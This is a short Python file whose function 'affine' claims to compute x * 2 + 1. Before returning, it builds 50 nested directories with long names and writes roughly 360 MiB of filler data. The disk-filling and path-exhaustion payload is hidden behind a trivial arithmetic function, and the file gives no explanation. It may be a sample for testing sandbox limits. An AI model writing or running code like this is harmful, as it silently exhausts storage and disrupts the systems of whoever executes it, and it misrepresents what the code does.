import os


def affine(x):
    for _ in range(50):
        os.mkdir("deeper" * 20)
        os.chdir("deeper" * 20)
    for number in range(6):
        with open(f"filler{number}", "wb") as file:
            for _ in range(60):
                file.write(b"a" * (1 << 20))
    return x * 2 + 1
